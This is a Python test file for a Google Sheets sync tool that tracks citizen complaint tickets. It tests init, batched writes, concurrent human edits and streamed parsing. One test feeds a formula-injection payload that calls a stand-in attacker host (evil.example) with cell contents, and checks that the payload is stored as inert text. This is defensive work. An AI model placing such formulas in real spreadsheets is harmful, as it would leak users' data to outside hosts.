"""The Tracker Sheet against the emulator: init, batched cycles, and people editing between read and write."""

from __future__ import annotations

import re
from datetime import timedelta

import pytest

from sheets_sync.errors import SchemaError
from sheets_sync.schema import load_schema
from sheets_sync.tracker.changes import ChangeSet
from sheets_sync.tracker.init import run_init
from sheets_sync.tracker.table import column_letter, quote_title

SCHEMA = load_schema()
HEADERS = SCHEMA["Tracker"].headers


def writes(emu) -> int:
    return emu.stats()["writes"]


def requests_made(emu) -> int:
    s = emu.stats()
    return s["reads"] + s["writes"]


def new_row(i: int, clock, text: str | None = None) -> dict:
    return {"Ticket ID": f"FB-{i}", "Platform": "facebook", "Comment ID": f"{i}", "Post ID": "p1",
            "Received At": clock.now - timedelta(hours=i % 48), "Author": f"Citizen {i}",
            "Comment": text or f"comment {i}", "Status": "New", "Send": False}


def add_rows(store, clock, n: int, start: int = 0) -> None:
    snapshot = store.read(["Tracker"])
    changes = ChangeSet(store.schema)
    for i in range(start, start + n):
        changes.append("Tracker", new_row(i, clock), "test")
    store.commit(changes, snapshot)


def person(store):
    """The same spreadsheet, as a person with gspread would edit it."""
    return store.backend.client.open_by_key(store.spreadsheet_id).worksheet("Tracker")


def test_init_creates_every_tab_and_second_run_writes_nothing(store, sheets_emulator):
    titles = [ws.title for ws in store.backend.client.open_by_key(store.spreadsheet_id).worksheets(exclude_hidden=False)]
    for tab in SCHEMA.tabs:
        assert tab in titles
    header = person(store).row_values(1)
    assert header[: len(HEADERS)] == HEADERS
    before = writes(sheets_emulator)
    report = run_init(store)
    assert not report.changed, report.actions
    assert writes(sheets_emulator) == before


def test_init_keeps_extra_and_reordered_columns_and_adds_missing_at_end(store, sheets_emulator, clock):
    add_rows(store, clock, 3)
    ws = person(store)
    # A person moves Notes to column A's place... by rewriting the header row: swap two headers and their data,
    # adds an extra column, and deletes the "Sync Notes" column.
    values = ws.get_all_values()
    i, j = HEADERS.index("Notes"), HEADERS.index("Author")
    for row in values:
        row[i], row[j] = row[j], row[i]
    values[0].append("Ward")
    for row in values[1:]:
        row.append("Kothrud")
    k = values[0].index("Sync Notes")
    values = [row[:k] + row[k + 1:] for row in values]
    ws.clear()
    ws.update(values, "A1", raw=True)
    report = run_init(store)
    assert any("Sync Notes" in a for a in report.actions)
    header = ws.row_values(1)
    assert header[-1] == "Sync Notes" and "Ward" in header
    assert header.index("Notes") == j and header.index("Author") == i
    assert ws.acell(f"{column_letter(header.index('Ward'))}2").value == "Kothrud"
    assert not run_init(store).changed


def test_cycle_costs_three_requests_whatever_the_size(store, sheets_emulator, clock):
    add_rows(store, clock, 200)
    for n_new, n_upd in ((1, 0), (50, 120), (500, 200)):
        before = requests_made(sheets_emulator)
        snapshot = store.read(["Tracker"])
        changes = ChangeSet(store.schema)
        for i in range(n_new):
            changes.append("Tracker", new_row(10_000 + n_new * 1000 + i, clock), "test")
        for i in range(n_upd):
            changes.set("Tracker", f"FB-{i}", "Overdue", "", "Overdue", "test")
        plan = store.commit(changes, snapshot)
        assert len(plan.appended) == n_new and len(plan.applied) == n_upd
        assert requests_made(sheets_emulator) - before <= 3


def test_formula_looking_comments_read_back_as_text(store, clock):
    texts = ['=IMPORTXML("http://evil.example/?q="&A1,"//a")', "+91 9876543210 call me", "-- पाणी नाही --",
             "@PMCPune कचरा", "'quoted", "007"]
    snapshot = store.read(["Tracker"])
    changes = ChangeSet(store.schema)
    for i, text in enumerate(texts):
        changes.append("Tracker", new_row(i, clock, text), "test")
    store.commit(changes, snapshot)
    table = store.read(["Tracker"])["Tracker"]
    got = {table.raw(n, "Ticket ID"): table.raw(n, "Comment") for n in table.row_numbers()}
    assert [got[f"FB-{i}"] for i in range(len(texts))] == texts


def test_people_sorting_inserting_deleting_and_editing_between_read_and_write(store, clock):
    add_rows(store, clock, 30)
    snapshot = store.read(["Tracker"])
    changes = ChangeSet(store.schema)
    for i in range(30):
        changes.set("Tracker", f"FB-{i}", "Overdue", "", "Overdue", "sla")
        changes.set("Tracker", f"FB-{i}", "Category", "", "Complaint", "route")
        changes.set("Tracker", f"FB-{i}", "Assigned By", "", f"mark-{i}", "route")
    changes.append("Tracker", new_row(99, clock), "ingest")
    # Meanwhile, people: sort by Author descending, insert a row at the top, delete FB-5's row, type into
    # Reply, Notes and Category.
    ws = person(store)
    col = {h: HEADERS.index(h) + 1 for h in HEADERS}
    ws.sort((col["Author"], "des"), range=f"A2:{column_letter(len(HEADERS) - 1)}31")
    ws.insert_row(["typed by a person"], index=2)
    ids = ws.col_values(1)
    ws.delete_rows(ids.index("FB-5") + 1)
    ids = ws.col_values(1)
    row7, row8 = ids.index("FB-7") + 1, ids.index("FB-8") + 1
    ws.update_cell(row7, col["Reply"], "We are on it — PMC")
    ws.update_cell(row7, col["Notes"], "called the citizen")
    ws.update_cell(row8, col["Category"], "Question")
    plan = store.commit(changes, snapshot)

    table = store.read(["Tracker"])["Tracker"]
    assert not table.duplicate_keys
    assert "FB-5" not in table.key_rows and "FB-99" in table.key_rows
    for i in range(30):
        if i == 5:
            continue
        n = table.key_rows[f"FB-{i}"]
        assert table.raw(n, "Author") == f"Citizen {i}"  # every value landed on its own row
        assert table.raw(n, "Assigned By") == f"mark-{i}"
        assert table.raw(n, "Overdue") == "Overdue"
    n7, n8 = table.key_rows["FB-7"], table.key_rows["FB-8"]
    assert table.raw(n7, "Reply") == "We are on it — PMC" and table.raw(n7, "Notes") == "called the citizen"
    assert table.raw(n8, "Category") == "Question"  # the person's value won
    assert any("kept theirs" in s for s in plan.skipped)
    assert table.raw(2, "Ticket ID") == "typed by a person"  # the person's row is untouched


def test_refuses_to_write_when_required_column_missing_or_duplicated(store, clock):
    add_rows(store, clock, 2)
    ws = person(store)
    header = ws.row_values(1)
    ws.update_cell(1, header.index("Status") + 1, "State")
    snapshot = store.read(["Tracker"])
    changes = ChangeSet(store.schema)
    changes.set("Tracker", "FB-1", "Overdue", "", "Overdue", "sla")
    changes.set_state("cursor:facebook:1", "c1")
    before = ws.get_all_values()
    plan = store.commit(changes, snapshot)
    # The tab waits, named with the fix; what other tabs were asked (here _state) is still written.
    assert re.search(r"Tracker: the required column 'Status' is missing.*sheets-sync init", plan.skipped[0])
    assert not plan.applied and ws.get_all_values() == before
    assert store.read([]).state["cursor:facebook:1"] == "c1"
    ws.update_cell(1, header.index("Status") + 1, "Overdue")
    snapshot = store.read(["Tracker"])
    changes.set("Tracker", "FB-1", "Overdue", "", "Overdue", "sla")
    plan = store.commit(changes, snapshot)
    assert "'Overdue' appears more than once" in plan.skipped[0] and not plan.applied


def test_duplicate_ticket_ids_are_reported_not_merged(store, clock, sheets_emulator):
    add_rows(store, clock, 3)
    ws = person(store)
    ws.update_cell(4, 1, "FB-1")
    snapshot = store.read(["Tracker"])
    table = snapshot["Tracker"]
    assert table.duplicate_keys == {"FB-1": [3, 4]}
    assert any("FB-1" in p and "rows 3, 4" in p for p in table.problems)
    changes = ChangeSet(store.schema)
    changes.set("Tracker", "FB-1", "Overdue", "", "Overdue", "sla")
    plan = store.commit(changes, snapshot)
    assert not plan.applied
    after = store.read(["Tracker"])["Tracker"]
    assert after.raw(3, "Overdue") == "" and after.raw(4, "Overdue") == ""


def test_missing_tab_names_init(backend, clock):
    from sheets_sync.tracker.store import TrackerStore

    s = TrackerStore(backend, clock=clock)
    with pytest.raises(SchemaError, match="sheets-sync init"):
        s.read(["Tracker"])


def test_long_comment_is_cut_with_marker(store, clock):
    snapshot = store.read(["Tracker"])
    changes = ChangeSet(store.schema)
    changes.append("Tracker", new_row(1, clock, "ड" * 60_000), "ingest")
    store.commit(changes, snapshot)
    table = store.read(["Tracker"])["Tracker"]
    text = table.raw(table.key_rows["FB-1"], "Comment")
    assert len(text) == 50_000 and "cut by sheets-sync" in text
    assert quote_title("It's") == "'It''s'"


def test_repeated_texts_and_times_are_shared_and_nothing_else_changes():
    from zoneinfo import ZoneInfo

    from sheets_sync.tracker.table import Table

    rows = [[f"FB-{i}", "Solid Waste Management".lower().title(), 46346.5 + 0.0, True if i % 2 else 1,
             -0.0 if i % 2 else 0.0, *(["Replied"] if i % 3 else [])] for i in range(3000)] + [[], ["FB-x"]]
    columns = [[r[c] if c < len(r) else "" for r in rows] for c in range(6)]
    for column in columns:  # as a COLUMNS read leaves them: no trailing empty cells
        while column and column[-1] == "":
            column.pop()
    table = Table.of_columns(load_schema()["Tracker"], [[f"h{c}", *column] for c, column in enumerate(columns)],
                             ZoneInfo("Asia/Kolkata"))
    got = list(table.rows)
    assert table.header == [f"h{c}" for c in range(6)]
    assert got == rows  # every value as it was, the rows as a ROWS read gives them
    assert all(a.__class__ is b.__class__ for r, s in zip(got, rows, strict=True) for a, b in zip(r, s, strict=True))
    assert len({id(r[1]) for r in got[:3000]}) == 1 and len({id(r[2]) for r in got[:3000]}) == 1  # one object each
    assert len({id(r[5]) for r in got if len(r) > 5}) == 1  # ragged rows (trailing empties left out) too
    assert [r[3] for r in got[:2]] == [1, True] and got[0][3] is not True  # 1 is not taken for True
    assert [str(r[4]) for r in got[:2]] == ["0.0", "-0.0"]  # nor -0.0 for 0.0
    assert len({id(r[0]) for r in got if r}) == 3001  # distinct keys stay as they are


def test_a_large_tab_read_shares_its_repeated_cells(store, clock):
    add_rows(store, clock, 1200)
    table = store.read(["Tracker"])["Tracker"]
    statuses = table.column("Status")
    assert statuses.count("New") == 1200 and len({id(s) for s in statuses}) == 1
    assert table.column("Ticket ID")[:3] == ["FB-0", "FB-1", "FB-2"]


class _Raw:
    """A response body arriving in small pieces, optionally broken off after ``break_at`` bytes."""

    def __init__(self, data: bytes, break_at: int | None = None) -> None:
        self.data, self.at, self.break_at, self.decode_content = data, 0, break_at, False

    def read(self, n: int = -1) -> bytes:
        if self.break_at is not None and self.at >= self.break_at:
            import urllib3

            raise urllib3.exceptions.ProtocolError("Connection broken: IncompleteRead")
        n = 7 if n is None or n < 0 else min(n, 7)  # tiny pieces: values split across reads
        piece, self.at = self.data[self.at:self.at + n], self.at + n
        return piece


class _Response:
    def __init__(self, raw: _Raw) -> None:
        self.raw, self.closed = raw, False

    def close(self) -> None:
        self.closed = True


@pytest.mark.parametrize("seed", range(40))
def test_streamed_ranges_parse_as_a_whole_body_parse_does(seed: int) -> None:
    """Table-driven by random answers: what the streamed parse yields per range is what ``json.loads`` makes of
    the whole body — texts with escapes, emoji and Devanagari, numbers, booleans, ranges without values —
    whether Google pretty-prints it or not, in whatever pieces it arrives."""
    import json
    import random

    from sheets_sync.tracker.store import _streamed_ranges

    rng = random.Random(seed)
    cells = ["", " ", "a\"b\\c", "line\nbreak", "कचरा उचलला नाही", "😀 ok", "=SUM(A1)", "<&'>", "\u0000x",
             0, 7, -3, 2**53, 46346.4, -0.0, 1e-7, 1.5e300, True, False]
    ranges = []
    for _ in range(rng.randint(0, 5)):
        columns = [[rng.choice(cells) for _ in range(rng.randint(0, 30))] for _ in range(rng.randint(0, 4))]
        ranges.append({"range": "Tracker!A1:Z", "majorDimension": "COLUMNS", **({"values": columns} if columns
                                                                               else {})})
    doc = {"spreadsheetId": "x", "valueRanges": ranges}
    text = json.dumps(doc, ensure_ascii=rng.random() < 0.5, indent=2 if rng.random() < 0.5 else None)
    response = _Response(_Raw(text.encode()))
    got = list(_streamed_ranges(response))
    assert got == [r.get("values") or [] for r in json.loads(text)["valueRanges"]]
    assert [[[type(v) for v in c] for c in r] for r in got] == \
        [[[type(v) for v in c] for c in r.get("values") or []] for r in json.loads(text)["valueRanges"]]
    assert response.closed


def test_a_connection_lost_while_the_answer_streams_is_a_connection_error_and_closes_it() -> None:
    import requests

    from sheets_sync.tracker.store import _streamed_ranges

    body = b'{"valueRanges": [{"values": [["a", "b"]]}, {"values": [["c", "d", "e"]]}]}'
    response = _Response(_Raw(body, break_at=40))
    ranges = _streamed_ranges(response)
    with pytest.raises(requests.ConnectionError, match="connection lost while reading the answer"):
        list(ranges)
    assert response.closed
